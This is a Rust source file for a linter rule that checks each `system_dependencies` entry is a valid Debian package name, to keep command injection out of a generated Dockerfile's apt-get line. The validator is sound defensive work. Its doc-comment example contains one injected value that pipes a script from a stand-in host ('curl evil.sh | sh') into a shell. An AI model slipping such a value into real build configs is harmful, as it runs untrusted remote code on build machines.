use crate::diagnostic::Diagnostic;
use crate::load::Value;
use crate::project::Project;

declare_rule! {
    /// ## What it does
    /// Checks each `system_dependencies` entry is a Debian package name (lowercase letters,
    /// digits, `+`, `-`, `.`; at least two characters), optionally pinned with `=version`.
    ///
    /// ## Why
    /// The names are written into the generated Dockerfile's `apt-get install` line; anything
    /// else would break the build or inject commands into it.
    ///
    /// ## Example
    /// ```yaml
    /// system_dependencies: [ffmpeg, "libgl1 && curl evil.sh | sh"]   # not a package name
    /// ```
    pub static SYSTEM_DEPENDENCY = ("FL0504", "system-dependency", Error);
}

pub(super) fn check(project: &Project, out: &mut Vec<Diagnostic>) {
    for endpoint in &project.endpoints {
        let Some(list) = endpoint.node.get("system_dependencies") else {
            continue;
        };
        for item in list.items() {
            let Value::Str(package) = &item.value else {
                continue;
            };
            if !is_package(package) {
                out.push(
                    Diagnostic::new(
                        &SYSTEM_DEPENDENCY,
                        item.span,
                        format!("`{package}` is not a Debian package name"),
                    )
                    .label("not a package name")
                    .help("use names as `apt-get install` takes them: lowercase letters, digits, `+`, `-`, `.`; pin with `name=version`"),
                );
            }
        }
    }
}

fn is_package(spec: &str) -> bool {
    let (name, version) = match spec.split_once('=') {
        Some((n, v)) => (n, Some(v)),
        None => (spec, None),
    };
    let name_ok = name.len() >= 2
        && name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+-.".contains(c));
    let version_ok = version.is_none_or(|v| {
        !v.is_empty()
            && v.chars()
                .all(|c| c.is_ascii_alphanumeric() || ".+~:-".contains(c))
    });
    name_ok && version_ok
}
